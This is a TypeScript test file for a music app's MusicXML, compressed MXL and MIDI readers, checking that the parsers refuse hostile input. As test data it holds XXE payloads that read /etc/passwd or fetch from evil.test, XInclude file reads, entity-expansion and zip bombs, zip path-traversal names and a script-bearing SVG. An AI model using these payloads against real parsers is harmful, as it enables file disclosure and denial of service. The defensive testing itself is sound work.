import { createRequire } from 'node:module'
import { describe, expect, it } from 'vitest'
import { demoPieces } from '../../../../demo/pieces.ts'
import { zipFile } from '../../../../test/zipFile.ts'
import { writeMusicXml } from '../../writeMusicXml.ts'
import { isMidi, readMidi } from './readMidi.ts'
import { isZip, readMxl } from './readMxl.ts'
import { MAX_BARS, readXml } from './readXml.ts'

const [piece] = demoPieces
const XML = piece ? writeMusicXml(piece) : ''
const read = (text: string) => readXml(Buffer.from(text))

describe('MusicXML', () => {
  it('tells its title and composer in plain words', () => {
    const titled = XML.replace(/<work-title>[^<]*/, '<work-title>Rock &amp; &#x266D;oll\n &lt;script&gt;')
    expect(read(titled)).toMatchObject({ title: 'Rock & ♭oll <script>', composer: 'Cadenza' })
  })

  it('may name MusicXML’s own DTD, which nothing looks up', () => {
    const doctype =
      '<!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 4.0 Partwise//EN" "http://evil.test/x.dtd">'
    const { xml } = read(XML.replace('<score-partwise', `${doctype}\n<score-partwise`))
    expect(xml).not.toMatch(/DOCTYPE|evil/)
  })

  it('may be UTF-16', () => {
    const content = Buffer.from(`\ufeff${XML.replace('UTF-8', 'UTF-16')}`, 'utf16le')
    expect(readXml(content)).toMatchObject({ title: 'Two Blacks, Three Blacks' })
  })

  it.each([
    ['an entity', '<!DOCTYPE score-partwise [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['entities in entities', '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'],
    ['an entity of a parameter', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x"> %x;]>'],
    ['a DTD of its own', '<!DOCTYPE a [<!ELEMENT a ANY>]>'],
    ['an entity without a DTD', '<!ENTITY a "b">'],
    ['another file', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'],
    ['another file under another name', '<q:include xmlns:q="x" href="/etc/passwd"/>'],
  ])('with %s is refused', (_, hostile) => {
    expect(() => read(XML.replace('<score-partwise', `${hostile}<score-partwise`))).toThrow(/don’t take/)
  })

  it.each(['<!DOCTYPE ', '<?a ', '<creator ', '<creator type="composer"', '<work-title>', '<measure ', '<part '])(
    'of two megabytes of %s is refused or read at once',
    (part) => {
      const begun = performance.now()
      try {
        read(`<score-partwise>${part.repeat(Math.floor(2_000_000 / part.length))}`)
      } catch {
        // refused is as good
      }
      expect(performance.now() - begun).toBeLessThan(3000)
    },
  )

  it('that is something else is refused', () => {
    for (const other of ['', '<html></html>', '<svg><script>alert(1)</script></svg>', 'plain words', '\0\0\0'])
      expect(() => read(other)).toThrow()
  })

  it('may have 400 bars and no more', () => {
    const bars = (count: number) =>
      `<score-partwise><part id="P1">${'<measure number="1"></measure>'.repeat(count)}</part></score-partwise>`
    expect(() => read(bars(MAX_BARS))).not.toThrow()
    expect(() => read(bars(MAX_BARS + 1))).toThrow('A piece may have at most 400 bars; this one has 401.')
  })
})

describe('compressed MusicXML', () => {
  const container = '<container><rootfiles><rootfile full-path="music/score.xml"/></rootfiles></container>'
  const LIST = { name: 'META-INF/container.xml', content: container }
  const SCORE = { name: 'music/score.xml', content: XML }

  it('is unpacked by its list of roots, or by its name', () => {
    const packed = zipFile([LIST, SCORE])
    expect(isZip(packed)).toBe(true)
    expect(readMxl(packed).toString()).toBe(XML)
    expect(readMxl(zipFile([{ ...SCORE, name: 'score.musicxml' }])).toString()).toBe(XML)
  })

  it.each(['../score.xml', '/etc/score.xml', 'a/../../b.xml', 'a\\b.xml', 'C:/b.xml'])(
    'that names a place outside itself is refused: %s',
    (name) => expect(() => readMxl(zipFile([LIST, SCORE, { name, content: '' }]))).toThrow('outside itself'),
  )

  it('with more than 50 files is refused', () => {
    const many = Array.from({ length: 51 }, (_, at) => ({ name: `${at}.txt`, content: '' }))
    expect(() => readMxl(zipFile(many))).toThrow('at most 50 files in it; this one has 51.')
  })

  it('that unpacks to more than 10 MB is refused, whatever it says of itself', () => {
    const bomb = Buffer.alloc(11 * 1024 * 1024, 32)
    const text = 'A compressed score may unpack to at most 10 MB.'
    expect(() => readMxl(zipFile([LIST, { ...SCORE, content: bomb }]))).toThrow(text)
    expect(() => readMxl(zipFile([LIST, { ...SCORE, content: bomb, claims: 10 }]))).toThrow(text)
    expect(() => readMxl(zipFile([LIST, SCORE, { name: 'other', content: '', claims: 2 ** 31 }]))).toThrow(text)
  })

  it('that is damaged is refused in words, wherever it is cut', () => {
    const packed = zipFile([LIST, SCORE])
    for (let at = 5; at < packed.length; at += 61)
      expect(() => readMxl(packed.subarray(0, at))).toThrow(/damaged|no score/)
    const [first] = zipFile([LIST]).entries()
    expect(first).toBeDefined()
    expect(() => readMxl(zipFile([LIST]))).toThrow('no score in it')
  })
})

describe('MIDI', () => {
  const { Midi } = createRequire(import.meta.url)('@tonejs/midi') as typeof import('@tonejs/midi')
  function makeMidi(tracks: number[][], about: (midi: InstanceType<typeof Midi>) => void = () => {}): Buffer {
    const midi = new Midi()
    about(midi)
    for (const keys of tracks) {
      const track = midi.addTrack()
      for (const [at, key] of keys.entries()) track.addNote({ midi: key, ticks: at * 480, durationTicks: 480 })
    }
    return Buffer.from(midi.toArray())
  }

  it('is read with its times in quarters, bars, and names', () => {
    const content = makeMidi([[60, 63, 67, 72, 60]], (midi) => {
      midi.header.name = 'A tune'
      midi.header.setTempo(90)
    })
    expect(isMidi(content)).toBe(true)
    const { title, tempo, notes, bars } = readMidi(content)
    expect({ title, tempo, bars }).toEqual({ title: 'A tune', tempo: 90, bars: 2 })
    expect(notes.map(({ name }) => name)).toEqual(['C4', 'E♭4', 'G4', 'C5', 'C4'])
    expect(notes[4]).toMatchObject({ id: 'n5', at: 4, duration: 1, bar: 2, hand: 'right' })
  })

  it('gives its two tracks to the hands, and parts one track at middle C', () => {
    expect(readMidi(makeMidi([[40], [72]])).notes.map(({ hand }) => hand)).toEqual(['right', 'left'])
    expect(readMidi(makeMidi([[59, 60]])).notes.map(({ hand }) => hand)).toEqual(['left', 'right'])
  })

  it('without notes, with too many bars, or damaged is refused', () => {
    expect(() => readMidi(makeMidi([[]]))).toThrow('no notes')
    expect(() => readMidi(makeMidi([Array(1601).fill(60)]))).toThrow('at most 400 bars')
    expect(() => readMidi(Buffer.from('MThd and then nothing of it'))).toThrow('damaged')
  })
})
